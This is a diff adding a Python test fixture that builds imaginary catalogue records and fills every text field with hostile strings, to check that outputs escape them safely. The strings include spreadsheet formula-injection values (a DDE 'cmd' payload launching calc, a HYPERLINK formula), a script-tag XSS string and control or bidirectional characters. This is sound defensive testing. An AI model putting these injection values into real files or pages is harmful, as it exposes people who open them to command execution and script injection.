@@ -1,0 +1,101 @@
+"""Imaginary catalogues for the tests of the outputs, some of them hostile."""
+
+from __future__ import annotations
+
+from datetime import date
+from typing import Any
+
+from catalogue.contexte import Contexte
+from catalogue.modele import Catalogue, Projet, convert
+from tests.aides import ROOT
+
+TODAY = date(2026, 11, 24)
+Json = dict[str, Any]
+
+# What a spreadsheet runs, what breaks a line, what closes a script, what XML forbids.
+HOSTILES = (
+    '=HYPERLINK("https://exemple.fr/?"&A1;"clic")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\uff1d1+1",
+    'dit « "oui" », puis ; non',
+    "une ligne\net une autre",
+    "</script><script>alert(1)</script>",
+    "a\x00b\x07c\x1f",
+    "\ud7ff\ue000\ufffe",
+    "'déjà entre apostrophes",
+    "  espaces  ",
+    "é\u2028\u2029\u202e",
+)
+
+
+def valeurs(**ajouts: object) -> Json:
+    """Return the values of an imaginary common, read by nobody but these tests."""
+    return {
+        "slug": "commun-imaginaire",
+        "nom": "Commun imaginaire",
+        "accroche": "Service imaginaire, fait pour les essais.",
+        "statut": "ecosysteme",
+        "contact": {"courriel": "contact@exemple.fr"},
+        "porteurs": [{"nom": "Syndicat mixte du Val Imaginaire", "type": "syndicat-mixte-ouvert"}],
+        "publics": {"collectivites": ["commune"]},
+        "depots": [{"url": "https://github.com/exemple/commun"}],
+        "licence": "MIT",
+        **ajouts,
+    }
+
+
+def hostile(text: str, slug: str = "commun-imaginaire") -> Json:
+    """Put the same text wherever a file accepts any."""
+    return valeurs(
+        slug=slug,
+        nom=text,
+        accroche=text,
+        sigle=text,
+        description=text,
+        porteurs=[{"nom": text, "type": "association"}],
+        depots=[{"url": "https://github.com/exemple/commun", "note": text}],
+        impact={
+            "indicateurs": [
+                {
+                    "id": "essais",
+                    "nom": text,
+                    "effet": "usage",
+                    "unite": "euro",
+                    "nature": "flux",
+                    "mesures": [
+                        {
+                            "au": "2026-06",
+                            "valeur": -3.5,
+                            "statut": "mesure",
+                            "source": "bilan",
+                            "perimetre": text,
+                        },
+                    ],
+                }
+            ]
+        },
+        reutilisations=[
+            {
+                "organisation": {"nom": text, "type": "association"},
+                "etat": "en-production",
+                "statut": "declaree",
+                "usage": text,
+                "source": "bilan",
+            }
+        ],
+        sources=[{"id": "bilan", "titre": text, "url": "https://exemple.fr/bilan"}],
+    )
+
+
+def hostiles() -> list[Json]:
+    """Return a common for each hostile text, in order."""
+    return [hostile(text, f"commun-{number}") for number, text in enumerate(HOSTILES)]
+
+
+def contexte(*projets: Json, today: date = TODAY) -> Contexte:
+    """Make the facts of a build of imaginary commons, as if their files had been read."""
+    return Contexte(ROOT, Catalogue(tuple(convert(one, Projet) for one in projets)), today)
